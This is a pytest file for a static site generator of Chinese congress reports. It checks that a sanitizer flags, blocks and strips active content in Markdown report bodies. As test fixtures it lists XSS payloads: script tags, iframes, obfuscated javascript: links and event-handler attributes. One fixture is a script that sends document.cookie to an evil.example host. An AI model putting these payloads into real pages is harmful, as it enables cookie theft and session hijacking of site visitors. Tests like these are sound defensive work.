"""Active content in report bodies (issue 16, item 13): `check` reports it as
`body-active-content` (an error, so `build` refuses), and `import` of a `.md` removes it
and says what it removed."""

from __future__ import annotations

import json

import pytest

from conftest import run_cli, report_text, write
from congressgen.activecontent import find_active, strip_active

HOSTILE = [
    ("<script>alert(1)</script>", "<script>"),
    ('<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    ('<object data="x.swf"></object>', "<object>"),
    ('<embed src="x.swf">', "<embed>"),
    ("[报名](javascript:alert(1))", "javascript:"),
    ("[报名](JaVaScRiPt:alert(1))", "javascript:"),
    ("![图](data:image/svg+xml;base64,PHN2Zz4=)", "data:"),
    ("[说明](vbscript:msgbox(1))", "vbscript:"),
    ('<a href="java&#x09;script:alert(1)">报名</a>', "javascript:"),
    ('<img src="a.png" onerror="alert(1)">', "onerror"),
    ('<p onclick="steal()">点击</p>', "onclick"),
    ("[报名][1]\n\n[1]: javascript:alert(1)", "javascript:"),
    ('[报名](https://a.example/){: onclick="x()"}', "onclick"),
]


@pytest.mark.parametrize("snippet,what", HOSTILE)
def test_check_flags_active_content_as_an_error_at_its_line(site_dir, snippet, what):
    body = f"一、工作回顾\n\n正文第一段。\n\n前文{snippet}后文。\n"
    text = report_text(id="a1", body=body)
    write(site_dir / "content/reports/a1.md", text)
    result = run_cli("check", "--source", str(site_dir), "--format", "json")
    found = [f for f in json.loads(result.stdout) if f["rule"] == "body-active-content"]
    assert result.returncode == 1, result.stdout
    assert found and all(f["severity"] == "error" for f in found)
    lines = text.split("\n")
    line = next(i for i, x in enumerate(lines, 1) if "前文" in x)
    first = found[0]
    start = lines[line - 1].index(snippet.split("\n")[0]) + 1
    assert first["path"] == "content/reports/a1.md"
    assert first["line"] >= line and (first["line"] > line or first["col"] >= start)
    assert first["line"] <= line + 2 and first["line"] < len(lines)
    assert what in first["message"]


def test_build_refuses_a_report_with_a_script(site_dir, tmp_path):
    text = report_text(id="a1", body="一、工作回顾\n\n<script>alert(1)</script>\n")
    write(site_dir / "content/reports/a1.md", text)
    line = text.split("\n").index("<script>alert(1)</script>") + 1
    out = tmp_path / "out"
    result = run_cli("build", "--source", str(site_dir), "--output", str(out))
    assert result.returncode == 1
    assert f"content/reports/a1.md:{line}:1" in result.stderr and "body-active-content" in result.stderr
    assert not out.exists()


@pytest.mark.parametrize("safe", [
    "`<script>alert(1)</script>` 是代码示例", "\n\n```\n<script>alert(1)</script>\n```\n",
    "<!-- <script>alert(1)</script> -->", "[国务院](https://www.gov.cn/)", '<img src="a.png" alt="图">',
    "一是加强 onclick 培训", "数据：a=1, b=2", "[链接](https://a.example/data:x)",
])
def test_code_comments_and_ordinary_links_are_not_flagged(safe):
    assert find_active(f"正文{safe}。\n") == []


def test_the_rule_has_a_stable_id_can_be_turned_off_and_is_documented(site_dir):
    from conftest import REPO

    assert "#### `body-active-content`（error）" in (REPO / "docs/check.md").read_text(encoding="utf-8")
    write(site_dir / "content/reports/a1.md", report_text(id="a1", body="一、工作回顾\n\n[x](javascript:1)\n"))
    config = site_dir / "congressgen.yaml"
    config.write_text(config.read_text(encoding="utf-8") + "check:\n  rules:\n    body-active-content: off\n",
                      encoding="utf-8")
    result = run_cli("check", "--source", str(site_dir), "--format", "json")
    assert not [f for f in json.loads(result.stdout) if f["rule"] == "body-active-content"]


def test_strip_keeps_link_text_and_removes_whole_elements():
    text, removed = strip_active('甲<script>x()</script>乙[报名](javascript:go())丙<b onclick="y">丁</b>')
    assert text == "甲乙报名丙<b>丁</b>"
    assert [r.what for r in removed] == ["<script> 元素", "javascript: 链接", "onclick 事件属性"]


def test_import_md_strips_active_content_and_says_what_it_removed(site_dir, tmp_path):
    source = write(tmp_path / "pasted-report.md", "\n".join([
        "---", "title: 粘贴来的报告", "date: 2024-04-26", "---", "",
        "一、工作回顾", "",
        "各位代表：<script>document.location='https://evil.example/?'+document.cookie</script>现在报告工作。", "",
        "详见[报名表](javascript:alert(1))。", "",
        '<img src="a.png" alt="图" onerror="alert(1)">', "",
        "二、今后工作", "", "继续努力。", ""]))
    result = run_cli("import", str(source), "--source", str(site_dir))
    assert result.returncode == 0, result.stderr
    written = (site_dir / "content/reports/pasted-report.md").read_text(encoding="utf-8")
    for gone in ("<script", "javascript:", "onerror", "evil.example"):
        assert gone not in written
    assert "各位代表：现在报告工作。" in written and "详见报名表。" in written and '<img src="a.png" alt="图">' in written
    shown = result.stdout + result.stderr
    assert "pasted-report.md:8:6" in shown and "<script> 元素" in shown
    assert "pasted-report.md:10:3" in shown and "javascript: 链接" in shown
    assert "onerror 事件属性" in shown
    checked = run_cli("check", "--source", str(site_dir), "--format", "json")
    assert not [f for f in json.loads(checked.stdout) if f["rule"] == "body-active-content"]
